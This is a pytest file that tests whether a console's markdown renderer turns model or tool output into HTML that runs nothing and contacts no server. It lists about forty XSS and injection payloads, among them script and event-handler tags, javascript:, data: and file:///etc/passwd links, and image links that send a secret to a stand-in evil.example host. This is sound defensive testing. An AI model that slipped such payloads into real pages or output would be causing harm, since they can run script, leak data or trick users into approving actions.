"""What a model or a tool wrote becomes HTML that runs nothing and asks no server for anything."""

from html.parser import HTMLParser

import pytest

from console.markdown import LONGEST, LONGEST_CODE, TAGS, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<form action='https://evil.example'><button>Approve</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>over everything</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example/x.swf'></object>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "![pixel](https://evil.example/?secret=42)",
    '![x](https://evil.example/a.png "onerror=alert(1)")',
    "![x](javascript:alert(1))",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/protocol-relative)",
    "[x](/inbox/1?do=approve)",
    '[x](https://ok.example "a\\" onmouseover=alert(1) b")',
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onclick=alert(1)\nprint()\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "</p></div><h1 class='qd-decide' onclick=alert(1)>Approved</h1>",
    "<p>unclosed <b",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text </script><script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}",
]
MAY_HAVE = {"a": {"href", "target", "rel", "title"}, "code": {"class"}, "span": {"class"}, "ol": {"start"}}


class Found(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_can_run_and_no_server_is_asked(payload: str) -> None:
    for tag, attributes in Found(render(payload)).tags:
        assert tag in TAGS
        assert set(attributes) <= MAY_HAVE.get(tag, set())
        assert (attributes.get("href") or "https://").startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_class_of_ours_can_be_put_on(payload: str) -> None:
    """Or a text could look like a part of the console."""
    for _, attributes in Found(render(payload)).tags:
        names = (attributes.get("class") or "").split()
        assert all(name.startswith(("hl-", "language-")) for name in names)


def test_an_image_is_shown_as_its_words() -> None:
    html = render("![a receipt](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert "[image: a receipt] https://evil.example/?q=secret" in html


def test_a_link_opens_elsewhere_and_tells_nothing_about_us() -> None:
    (_, link) = next(found for found in Found(render("[docs](https://ok.example/a)")).tags if found[0] == "a")
    assert link == {"href": "https://ok.example/a", "target": "_blank", "rel": "noopener noreferrer nofollow"}


def test_a_bare_address_becomes_a_link() -> None:
    assert 'href="https://ok.example/a"' in render("see https://ok.example/a")


def test_what_people_expect_of_markdown_works() -> None:
    html = render("**bold** *slanted* ~~gone~~ `code`\n\n1. one\n2. two\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for part in ("<strong>bold</strong>", "<em>slanted</em>", "<s>gone</s>", "<code>code</code>", "<blockquote>"):
        assert part in html
    assert html.count("<li>") == 2
    assert html.count("<td>") == 2


def test_code_is_coloured_when_its_language_is_known() -> None:
    assert 'class="hl-' in render('```python\nprint("hello")\n```')
    assert 'class="hl-' not in render("```no-such-language\nprint\n```")


def test_very_long_code_is_shown_plainly() -> None:
    html = render(f"```python\n{'x = 1;' * (LONGEST_CODE // 5)}\n```")
    assert 'class="hl-' not in html
    assert "x = 1;" in html


def test_a_text_beyond_the_limit_ends_there() -> None:
    assert len(render("a" * (LONGEST + 5000))) < LONGEST + 100


@pytest.mark.parametrize("text", ["> " * 5000 + "deep", "[" * 5000, "*" * 5000 + "a", "- " * 3000 + "x"])
def test_a_text_made_to_nest_deeply_is_drawn_all_the_same(text: str) -> None:
    assert render(text)
